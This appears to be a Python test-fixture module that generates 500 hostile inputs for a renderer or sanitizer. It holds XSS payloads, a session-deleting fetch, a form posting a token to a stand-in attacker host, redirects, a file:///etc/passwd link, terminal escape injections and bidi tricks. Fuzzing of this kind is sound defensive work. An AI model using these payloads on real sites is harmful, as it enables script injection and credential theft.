"""Five hundred hostile texts, made from parts: what runs, where it would have to stand, and how it is disguised."""

from __future__ import annotations

import itertools
from typing import Final

_RUNS: Final = ("alert(1)", "top.pwned=1", "fetch('/api/sessions',{method:'DELETE'})", "import('/x.js')")
_WHERE: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button autofocus>x",
    "<input autofocus onfocus={}>",
    "<math><mtext><img src onerror={}></mtext></math>",
    "<template><script>{}</script></template>",
    "<style>@import 'javascript:{}';*{{display:none}}</style>",
    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D><b onmouseover={}>",
    "<base href=//evil.invalid><script src=x.js>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<div hx-get=/x hx-on::load={} hx-trigger=load>",
    "<div hx-on:click={} hx-vals='js:{{a:1}}'>",
)
_AROUND: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</pre></span></td>{}",
    "--></textarea></title></template>{}",
    "{{{{ 7*7 }}}}{{% raw %}}{}",
    "]]>{}",
)
_QUIET: Final = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "a\u202egnp.exe\u202c",
    "\u2066x\u2069\u200b\ufeff",
    "\x00\x08\x0b\x7f\x9b31m",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "\N{COMBINING GRAVE ACCENT}" * 40,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800 half a character".encode("utf-8", "replace").decode(),
    "@@ -1 +1 @@\n--- a/x\n+++ b/<img src=x onerror=alert(1)>",
)


MARKDOWN: Final = (
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\tscript:alert(1)) [y](\x01javascript:alert(1)) [z](//evil.invalid/x)",
    "<javascript:alert(1)> <data:text/html,<b>>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]: data:text/html,<script>alert(1)</script>\n\n![x] [x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:null/1)",
    '[x](https://evil.invalid/"onmouseover="alert(1))',
    "[x](https://evil.invalid 'a\" onclick=\"alert(1)')",
    "| [x](javascript:alert(1)) | ![y](data:text/html,z) |\n|-|:-:|\n| <svg onload=alert(1)> | `<script>` **<i>** |",
    "| a |\n|-|\n| | | | | | <img src=x onerror=alert(1)> |",
    "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "```html\n<script>alert(1)</script>",
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    "~~~js onload=alert(1)\n</code></pre><script>alert(1)</script>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<p style="position:fixed;inset:0;z-index:9999">over everything</p>',
    "<form action=//evil.invalid><input name=token><button>continue</button></form>",
    '<meta http-equiv="refresh" content="0;url=//evil.invalid"><base href="//evil.invalid/">',
    '<iframe src="javascript:alert(1)"></iframe><embed src=//evil.invalid><object data=//evil.invalid>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><animate onbegin=alert(1)></svg>',
    "<!--[if IE]><script>alert(1)</script><![endif]--> <![CDATA[<script>alert(1)</script>]]>",
    "$\\href{javascript:alert(1)}{x}$ \\<script>alert(1)\\</script>",
    "> " * 60 + "<script>alert(1)</script>",
    "- " * 40 + "[x](javascript:alert(1))",
    "\x1b[31mred\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[0m \x1bP1;2|a\x1b\\",
    "if admin == '\u202e' and \u2066# is not\u2069 ok: \u200b\u2028next",
    "W" * 4000 + "<script>alert(1)</script>",
)
"""what markdown, highlighting or a terminal view could make something of"""


def payloads(number: int = 500) -> list[str]:
    """So many, all different."""
    made = [around.format(where.format(run)) for around, where, run in itertools.product(_AROUND, _WHERE, _RUNS)]
    return [*_QUIET, *MARKDOWN, *made][:number]
